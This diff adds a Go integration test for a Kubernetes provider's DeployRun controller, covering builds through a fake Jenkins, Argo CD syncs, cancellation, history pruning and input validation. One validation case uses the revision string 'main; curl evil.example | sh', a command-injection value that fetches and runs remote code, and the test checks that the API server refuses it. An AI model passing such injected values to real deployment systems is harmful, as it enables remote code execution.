@@ -1,0 +1,328 @@
+/*
+Copyright 2026 The provider-devops Authors.
+
+Licensed under the Apache License, Version 2.0 (the "License");
+you may not use this file except in compliance with the License.
+You may obtain a copy of the License at
+
+    http://www.apache.org/licenses/LICENSE-2.0
+
+Unless required by applicable law or agreed to in writing, software
+distributed under the License is distributed on an "AS IS" BASIS,
+WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
+See the License for the specific language governing permissions and
+limitations under the License.
+*/
+
+
+package deployrun_test
+
+import (
+	"context"
+	"fmt"
+	"strings"
+	"testing"
+	"time"
+
+	corev1 "k8s.io/api/core/v1"
+	kerrors "k8s.io/apimachinery/pkg/api/errors"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	ctrl "sigs.k8s.io/controller-runtime"
+	"sigs.k8s.io/controller-runtime/pkg/client"
+
+	"github.com/crossplane/crossplane-runtime/v2/pkg/controller"
+	xpv2 "github.com/crossplane/crossplane/apis/v2/core/v2"
+
+	argov1alpha1 "github.com/freeleaps/provider-devops/apis/argocd/v1alpha1"
+	"github.com/freeleaps/provider-devops/apis/contract"
+	dnsv1alpha1 "github.com/freeleaps/provider-devops/apis/dns/v1alpha1"
+	jenkinsv1alpha1 "github.com/freeleaps/provider-devops/apis/jenkins/v1alpha1"
+	"github.com/freeleaps/provider-devops/apis/v1alpha1"
+	"github.com/freeleaps/provider-devops/internal/controller/argoapplication"
+	"github.com/freeleaps/provider-devops/internal/controller/deployrun"
+	"github.com/freeleaps/provider-devops/internal/controller/jenkinspipeline"
+	"github.com/freeleaps/provider-devops/internal/controller/mrcontroller"
+	"github.com/freeleaps/provider-devops/internal/testing/argocdserver"
+	"github.com/freeleaps/provider-devops/internal/testing/envtest"
+	fakejenkins "github.com/freeleaps/provider-devops/internal/testing/jenkins"
+)
+
+func TestMain(m *testing.M) { envtest.Main(m) }
+
+const token = "11aa-deployrun-jenkins-token"
+
+// TestDeployRun takes deployments through a real Argo CD and a fake
+// Jenkins whose "executor" (this test) commits what it built to the git
+// repository Argo CD reads, as a real pipeline would: a deployment that
+// succeeds with its live URL; one queued behind it whose build fails; one
+// cancelled while it builds (its build aborted); one whose build reports a
+// revision that does not exist (the sync fails); one of an environment
+// that does not exist and one naming another namespace's project (both
+// fail, touching nothing); a revision that is no git ref (refused by the
+// API server); and the history kept to its size.
+func TestDeployRun(t *testing.T) {
+	env := envtest.Shared(t)
+	s := argocdserver.Shared(t, env)
+	jenkins := fakejenkins.New("ci", token)
+	defer jenkins.Close()
+	ctx := context.Background()
+	c := env.Client
+	ns := "deployrun"
+	appPath := "deploy-shop"
+	_, err := s.Apps.Commit(map[string]string{appPath + "/configmap.yaml": configMap("v0")}, "shop v0")
+	envtest.Must(t, err)
+
+	for _, o := range []client.Object{
+		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: ns}},
+		&corev1.Namespace{ObjectMeta: metav1.ObjectMeta{Name: "deployrun-other"}},
+		&corev1.Secret{ObjectMeta: metav1.ObjectMeta{Name: "creds", Namespace: ns}, StringData: map[string]string{
+			"argocd": s.Token, "jenkins": `{"username": "ci", "token": "` + token + `"}`}},
+		&v1alpha1.ProviderConfig{ObjectMeta: metav1.ObjectMeta{Name: "default", Namespace: ns}, Spec: v1alpha1.ProviderConfigSpec{
+			ArgoCD:  &v1alpha1.ArgoCDConfig{URL: s.URL, Namespace: argocdserver.Namespace, Credentials: secret("argocd")},
+			Jenkins: &v1alpha1.JenkinsConfig{URL: jenkins.URL, Credentials: secret("jenkins")},
+		}},
+	} {
+		envtest.Must(t, c.Create(ctx, o))
+	}
+	labels := map[string]string{contract.LabelProject: "shop", contract.LabelEnvironment: "dev"}
+	p := &jenkinsv1alpha1.JenkinsPipeline{
+		ObjectMeta: metav1.ObjectMeta{Name: "shop-dev", Namespace: ns, Labels: labels},
+		Spec: jenkinsv1alpha1.JenkinsPipelineSpec{ForProvider: jenkinsv1alpha1.JenkinsPipelineParameters{
+			Source:     jenkinsv1alpha1.PipelineSource{Script: ptr("node { echo 'build and commit' }")},
+			Parameters: []jenkinsv1alpha1.Parameter{{Name: "REVISION", Type: "string", Default: ptr("main")}},
+		}},
+	}
+	p.SetProviderConfigReference(&xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "default"})
+	a := &argov1alpha1.ArgoApplication{ObjectMeta: metav1.ObjectMeta{Name: "shop-dev", Namespace: ns, Labels: labels}}
+	a.SetProviderConfigReference(&xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "default"})
+	a.Spec.ForProvider = argov1alpha1.ArgoApplicationParameters{
+		Source:      argov1alpha1.ApplicationSource{RepoURL: s.Apps.URL, Path: appPath, TargetRevision: "main"},
+		Destination: argov1alpha1.ApplicationDestination{Server: argocdserver.InClusterServer, Namespace: "shop-dev"},
+		SyncPolicy:  &argov1alpha1.SyncPolicy{SyncOptions: []string{"CreateNamespace=true"}},
+	}
+	// The DNS record's controller does not run here: its status is set as
+	// it would.
+	rec := &dnsv1alpha1.DNSRecord{ObjectMeta: metav1.ObjectMeta{Name: "shop-dev", Namespace: ns, Labels: labels}}
+	rec.Spec.ForProvider = dnsv1alpha1.DNSRecordParameters{Zone: "example.test", Name: "shop-dev", Type: "A", Values: []string{"192.0.2.1"}}
+	rec.SetProviderConfigReference(&xpv2.ProviderConfigReference{Kind: "ProviderConfig", Name: "default"})
+	for _, o := range []client.Object{p, a, rec} {
+		envtest.Must(t, c.Create(ctx, o))
+	}
+	rec.Status.AtProvider.FQDN = "shop-dev.example.test."
+	envtest.Must(t, c.Status().Update(ctx, rec))
+
+	envtest.StartManagerLogging(t, env, 2*time.Second, testLog{t}, func(mgr ctrl.Manager, o controller.Options) error {
+		if err := mrcontroller.Setup(mgr, o, jenkinspipeline.Kind, jenkinspipeline.NewConnector(mgr.GetClient(), nil)); err != nil {
+			return err
+		}
+		if err := mrcontroller.Setup(mgr, o, argoapplication.Kind, argoapplication.NewConnector(mgr.GetClient(), nil)); err != nil {
+			return err
+		}
+		return deployrun.Setup(mgr, o, deployrun.Options{Keep: 3})
+	})
+	envtest.Eventually(t, "pipeline and application ready to deploy", func() bool {
+		_ = c.Get(ctx, client.ObjectKeyFromObject(a), a)
+		return jenkins.Exists("shop-dev") && a.Status.AtProvider.URL != ""
+	})
+
+	run := func(name, revision string) *v1alpha1.DeployRun {
+		t.Helper()
+		d := &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: name, Namespace: ns}, Spec: v1alpha1.DeployRunSpec{Project: "shop", Environment: "dev", Revision: revision}}
+		envtest.Must(t, c.Create(ctx, d))
+		return d
+	}
+	get := func(d *v1alpha1.DeployRun) *v1alpha1.DeployRun {
+		_ = c.Get(ctx, client.ObjectKeyFromObject(d), d)
+		return d
+	}
+	waitPhase := func(d *v1alpha1.DeployRun, phase v1alpha1.DeployPhase) {
+		t.Helper()
+		envtest.EventuallyWithin(t, 2*time.Minute, d.Name+" "+string(phase), func() bool { return get(d).Status.Phase == phase })
+	}
+	defer func() {
+		if t.Failed() {
+			l := &v1alpha1.DeployRunList{}
+			_ = c.List(ctx, l, client.InNamespace(ns))
+			for _, d := range l.Items {
+				t.Logf("%s: %+v build %+v sync %+v", d.Name, d.Status.Phase, d.Status.Build, d.Status.Sync)
+				for _, x := range d.Status.Timeline {
+					t.Logf("  %s %s %s", x.At.Format(time.TimeOnly), x.Phase, x.Message)
+				}
+			}
+			_ = c.Get(ctx, client.ObjectKeyFromObject(p), p)
+			t.Logf("pipeline %+v %+v; jenkins requests %v", p.Spec.ForProvider.BuildRequest, p.Status, jenkins.Requests())
+		}
+	}()
+	// execute plays the Jenkins executor for the next queued build: it
+	// starts it, commits what it "built" and reports the commit.
+	execute := func(content, result string) (number int, sha string) {
+		t.Helper()
+		envtest.Eventually(t, "a build queued", func() bool { return jenkins.Queued("shop-dev") == 1 })
+		jenkins.RunQueue()
+		builds := jenkins.Builds("shop-dev")
+		number = builds[len(builds)-1].Number
+		if content != "" {
+			sha, err = s.Apps.Commit(map[string]string{appPath + "/configmap.yaml": configMap(content)}, "shop "+content)
+			envtest.Must(t, err)
+			jenkins.SetDescription("shop-dev", number, "built "+content+"\nrevision="+sha)
+		}
+		jenkins.Finish("shop-dev", result)
+		return number, sha
+	}
+
+	// 1. A deployment that succeeds; 2. one queued behind it.
+	first := run("first", "main")
+	waitPhase(first, v1alpha1.DeployBuilding)
+	second := run("second", "release-1")
+	envtest.Eventually(t, "second queued behind first", func() bool {
+		return strings.Contains(get(second).Status.Message, "queued behind DeployRun first")
+	})
+	n, sha := execute("v1", "SUCCESS")
+	waitPhase(first, v1alpha1.DeploySucceeded)
+	if second := get(second); second.Status.Phase == v1alpha1.DeployFailed {
+		t.Fatalf("second failed: %s", second.Status.Message)
+	}
+	d := get(first)
+	if d.Status.Build == nil || d.Status.Build.Number != int64(n) || d.Status.Build.Revision != sha || d.Status.Build.Result != "SUCCESS" {
+		t.Errorf("build status %+v, want #%d revision %s", d.Status.Build, n, sha)
+	}
+	if d.Status.Sync == nil || d.Status.Sync.SyncedRevision != sha || d.Status.Sync.Health != "Healthy" {
+		t.Errorf("sync status %+v, want synced to %s and Healthy", d.Status.Sync, sha)
+	}
+	if d.Status.URL != "https://shop-dev.example.test" || !strings.Contains(d.Status.Message, "live at https://shop-dev.example.test") {
+		t.Errorf("url %q message %q", d.Status.URL, d.Status.Message)
+	}
+	var phases []string
+	for _, x := range d.Status.Timeline {
+		phases = append(phases, string(x.Phase))
+	}
+	if got := strings.Join(phases, ","); got != "Pending,Building,Deploying,Verifying,Succeeded" {
+		t.Errorf("timeline %s", got)
+	}
+	builds := jenkins.Builds("shop-dev")
+	if got := builds[0].Params.Get("REVISION"); len(builds) < 1 || got != "main" {
+		t.Errorf("first build REVISION=%q", got)
+	}
+	cm := &corev1.ConfigMap{}
+	envtest.Must(t, c.Get(ctx, client.ObjectKey{Namespace: "shop-dev", Name: "shop"}, cm))
+	if cm.Data["version"] != "v1" {
+		t.Errorf("the application runs %q, want v1", cm.Data["version"])
+	}
+
+	// 2. The second runs once the first is done; its build fails.
+	waitPhase(second, v1alpha1.DeployBuilding)
+	execute("", "FAILURE")
+	waitPhase(second, v1alpha1.DeployFailed)
+	if d := get(second); d.Status.FailedPhase != v1alpha1.DeployBuilding || !strings.Contains(d.Status.Message, "ended FAILURE") || !strings.Contains(d.Status.Message, "console") {
+		t.Errorf("second: failed in %s: %s", d.Status.FailedPhase, d.Status.Message)
+	}
+	if got := jenkins.Builds("shop-dev")[1].Params.Get("REVISION"); got != "release-1" {
+		t.Errorf("second build REVISION=%q", got)
+	}
+
+	// 3. Cancelled while it builds: the build is aborted, the object goes.
+	third := run("third", "main")
+	waitPhase(third, v1alpha1.DeployBuilding)
+	envtest.Eventually(t, "third's build queued", func() bool { return jenkins.Queued("shop-dev") == 1 })
+	jenkins.RunQueue()
+	envtest.Eventually(t, "third follows its build", func() bool { return get(third).Status.Build.Number == 3 })
+	envtest.Must(t, c.Delete(ctx, third))
+	envtest.Eventually(t, "third gone", func() bool { return kerrors.IsNotFound(c.Get(ctx, client.ObjectKeyFromObject(third), &v1alpha1.DeployRun{})) })
+	if b := jenkins.Builds("shop-dev")[2]; b.Result != "ABORTED" {
+		t.Errorf("third's build %+v, want ABORTED", b)
+	}
+
+	// 4. The build reports a revision Argo CD cannot find: the sync fails.
+	fourth := run("fourth", "main")
+	waitPhase(fourth, v1alpha1.DeployBuilding)
+	envtest.Eventually(t, "fourth's build queued", func() bool { return jenkins.Queued("shop-dev") == 1 })
+	jenkins.RunQueue()
+	jenkins.SetDescription("shop-dev", 4, "revision=0123456789abcdef0123456789abcdef01234567")
+	jenkins.Finish("shop-dev", "SUCCESS")
+	waitPhase(fourth, v1alpha1.DeployFailed)
+	if d := get(fourth); d.Status.FailedPhase != v1alpha1.DeployDeploying || !strings.Contains(d.Status.Message, "Argo CD") {
+		t.Errorf("fourth: failed in %s: %s", d.Status.FailedPhase, d.Status.Message)
+	}
+	envtest.Must(t, c.Get(ctx, client.ObjectKey{Namespace: "shop-dev", Name: "shop"}, cm))
+	if cm.Data["version"] != "v1" {
+		t.Errorf("after a failed sync the application runs %q, want v1 still", cm.Data["version"])
+	}
+
+	// 5. An environment that does not exist, and another namespace's
+	// project: failed at once, nothing built.
+	before := len(jenkins.Builds("shop-dev"))
+	nope := &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: "nope", Namespace: ns}, Spec: v1alpha1.DeployRunSpec{Project: "shop", Environment: "prod"}}
+	other := &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: "steal", Namespace: "deployrun-other"}, Spec: v1alpha1.DeployRunSpec{Project: "shop", Environment: "dev"}}
+	envtest.Must(t, c.Create(ctx, nope))
+	envtest.Must(t, c.Create(ctx, other))
+	waitPhase(nope, v1alpha1.DeployFailed)
+	waitPhase(other, v1alpha1.DeployFailed)
+	for _, d := range []*v1alpha1.DeployRun{nope, other} {
+		if d.Status.FailedPhase != v1alpha1.DeployPending || !strings.Contains(d.Status.Message, "unknown project or environment: no JenkinsPipeline is labelled") {
+			t.Errorf("%s: failed in %s: %s", d.Name, d.Status.FailedPhase, d.Status.Message)
+		}
+	}
+	if n := len(jenkins.Builds("shop-dev")) + jenkins.Queued("shop-dev"); n != before {
+		t.Errorf("%d builds after deployments to unknown environments, want %d", n, before)
+	}
+
+	// 6. Bad input the API server refuses.
+	for name, spec := range map[string]v1alpha1.DeployRunSpec{
+		"shell":      {Project: "shop", Environment: "dev", Revision: "main; curl evil.example | sh"},
+		"dotdot":     {Project: "shop", Environment: "dev", Revision: "a/../b"},
+		"revparam":   {Project: "shop", Environment: "dev", Parameters: map[string]string{"REVISION": "x"}},
+		"badproject": {Project: "Shop!", Environment: "dev"},
+	} {
+		err := c.Create(ctx, &v1alpha1.DeployRun{ObjectMeta: metav1.ObjectMeta{Name: "bad-" + name, Namespace: ns}, Spec: spec})
+		if !kerrors.IsInvalid(err) {
+			t.Errorf("%s: want the API server to refuse it, got %v", name, err)
+		}
+	}
+	d = get(first)
+	d.Spec.Revision = "other"
+	if err := c.Update(ctx, d); !kerrors.IsInvalid(err) {
+		t.Errorf("changing a DeployRun's revision: want refused, got %v", err)
+	}
+	d = get(first)
+	d.Spec.Timeouts.Verify = &metav1.Duration{Duration: time.Hour}
+	if err := c.Update(ctx, d); err != nil {
+		t.Errorf("changing a DeployRun's timeouts (a typed round trip): %v", err)
+	}
+
+	// 7. History: 3 kept of each environment's finished deployments. dev
+	// has first, second and fourth (third was deleted); a fifth pushes
+	// out the oldest, first. prod's one failure is its own history.
+	fifth := run("fifth", "main")
+	waitPhase(fifth, v1alpha1.DeployBuilding)
+	execute("", "FAILURE")
+	waitPhase(fifth, v1alpha1.DeployFailed)
+	envtest.Eventually(t, "history pruned to 3 per environment", func() bool {
+		l := &v1alpha1.DeployRunList{}
+		_ = c.List(ctx, l, client.InNamespace(ns))
+		var names []string
+		for _, d := range l.Items {
+			names = append(names, d.Name)
+		}
+		return strings.Join(names, ",") == "fifth,fourth,nope,second"
+	})
+}
+
+func configMap(version string) string {
+	return fmt.Sprintf("apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: shop\ndata:\n  version: %q\n", version)
+}
+
+func secret(key string) v1alpha1.Credentials {
+	return v1alpha1.Credentials{Source: xpv2.CredentialsSourceSecret, SecretRef: &v1alpha1.SecretKeySelector{Name: "creds", Key: key}}
+}
+
+func ptr[T any](v T) *T { return &v }
+
+// testLog writes the controllers' debug logs to the test's log.
+type testLog struct{ t *testing.T }
+
+func (l testLog) Write(p []byte) (int, error) {
+	if strings.Contains(string(p), `"controller": "deployrun"`) {
+		l.t.Log(strings.TrimSpace(string(p)))
+	}
+	return len(p), nil
+}
